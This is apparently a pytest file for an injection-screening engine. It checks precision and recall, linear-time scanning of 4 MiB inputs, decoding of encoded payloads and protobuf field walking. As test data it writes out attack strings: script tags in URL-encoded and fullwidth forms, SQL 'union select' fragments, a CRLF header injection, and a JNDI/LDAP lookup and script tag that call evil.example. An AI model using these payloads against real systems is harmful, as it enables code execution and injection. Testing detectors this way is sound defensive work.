"""Screening as an engine: precision and recall on the labelled corpus, linear time on 4 MiB
fields, the forms a field is screened in, and the text fields of a protobuf message.
"""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from bhiv.crm.v1 import customer_service_pb2, ticket_service_pb2
from bhiv_core.agents.threat_detection.screening import Screener, message_text_fields
from tests.agents.threat_detection.corpus import BENIGN, PAYLOADS, malicious

SCREENER = Screener()

PRECISION_GOAL = 0.98
RECALL_GOAL = 0.95
"""Goals on the project's corpus: at most 1 in 50 flags is wrong, at most 1 in 20 attacks missed."""


def test_precision_and_recall_on_the_labelled_corpus_meet_the_goals() -> None:
    attacks = malicious()
    assert len(BENIGN) >= 250 and len(attacks) >= 300
    false_positives = [text for text in BENIGN if SCREENER.screen(text)]
    true_positives = [text for _, text in attacks if SCREENER.screen(text)]
    missed = [text for _, text in attacks if not SCREENER.screen(text)]
    precision = len(true_positives) / (len(true_positives) + len(false_positives))
    recall = len(true_positives) / len(attacks)
    print(
        f"\ncorpus: {len(BENIGN)} benign, {len(attacks)} malicious ({len(PAYLOADS)} payloads); "
        f"precision {precision:.4f}, recall {recall:.4f}; "
        f"false positives {false_positives}; missed {missed}"
    )
    assert precision >= PRECISION_GOAL
    assert recall >= RECALL_GOAL


def test_every_payload_alone_is_flagged_in_its_own_family() -> None:
    wrong = [
        (family, text)
        for family, text in PAYLOADS
        if family not in {finding.rule.family for finding in SCREENER.screen(text)}
    ]
    assert wrong == []


def _cost(text: str, repeat: int = 5) -> float:
    """The least of ``repeat`` runs, so another process on the machine does not count."""
    # This thread's CPU time, not the wall clock: another process taking the core while a scan
    # runs (the test machine is shared) does not count against the scan.
    best = float("inf")
    for _ in range(repeat):
        start = time.thread_time()
        SCREENER.screen(text)
        best = min(best, time.thread_time() - start)
    return best


MiB = 1 << 20
HOSTILE: dict[str, Callable[[int], str]] = {
    # Inputs that make backtracking engines blow up on patterns like the old system's.
    "quotes": lambda n: "'" * n,
    "spaces after a tag": lambda n: "<a" + " " * (n - 2),
    "nested lookups": lambda n: ("${" * (n // 2))[:n],
    "dot dot": lambda n: ("../" * (n // 3 + 1))[:n],
    "percent signs": lambda n: ("%2" * (n // 2 + 1))[:n],
    "words and separators": lambda n: ("union select or 1=; | & ` $( " * (n // 30 + 1))[:n],
    "non-ascii": lambda n: ("धर्म" * (n // 4 + 1))[:n],
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_4_mib_field_costs_at_most_linear_time(name: str) -> None:
    build = HOSTILE[name]
    small, large = build(MiB), build(4 * MiB)
    one, four = _cost(small), _cost(large)
    ratio = four / one
    print(f"\n{name}: 1 MiB {one * 1000:.2f} ms, 4 MiB {four * 1000:.2f} ms, ratio {ratio:.2f}")
    # Linear is a ratio of 4, quadratic 16: the bound sits between, with room for a 4 MiB input
    # falling out of the CPU caches that 1 MiB fits in, and for sub-millisecond noise.
    assert ratio < 10


def test_encoded_double_encoded_and_fullwidth_payloads_are_decoded_before_matching() -> None:
    for text in (
        "%3Cscript%3E",
        "%253Cscript%253E",
        "＜ｓｃｒｉｐｔ＞",  # noqa: RUF001 - fullwidth on purpose
        "%EF%BC%9Cscript%EF%BC%9E",
        "1+union+select+2",
    ):
        assert [f.rule.family for f in SCREENER.screen(text)][:1] in (["xss"], ["sql"]), text


def test_a_finding_excerpt_escapes_control_characters() -> None:
    [finding] = SCREENER.screen("x\r\nSet-Cookie: a=b")
    assert "\r" not in finding.excerpt and "\\r\\n" in finding.excerpt


def test_message_text_fields_walk_nested_repeated_and_map_strings() -> None:
    request = ticket_service_pb2.CreateTicketRequest()
    request.ticket.title = "Order late"
    request.ticket.description = "<script src=//evil.example>"
    fields = dict(message_text_fields(request))
    assert fields["ticket.title"] == "Order late"
    findings = SCREENER.screen_fields(message_text_fields(request))
    assert [(f.field, f.rule.id) for f in findings] == [("ticket.description", "xss.script_tag")]
    customer = customer_service_pb2.CreateCustomerRequest()
    customer.customer.tags.extend(["vip", "${jndi:ldap://evil.example/a}"])
    assert ("customer.tags[1]", "${jndi:ldap://evil.example/a}") in message_text_fields(customer)


def test_message_text_fields_stop_at_the_field_limit() -> None:
    request = ticket_service_pb2.CreateTicketRequest()
    request.ticket.title = "a"
    request.ticket.description = "b"
    assert len(message_text_fields(request, max_fields=1)) == 1
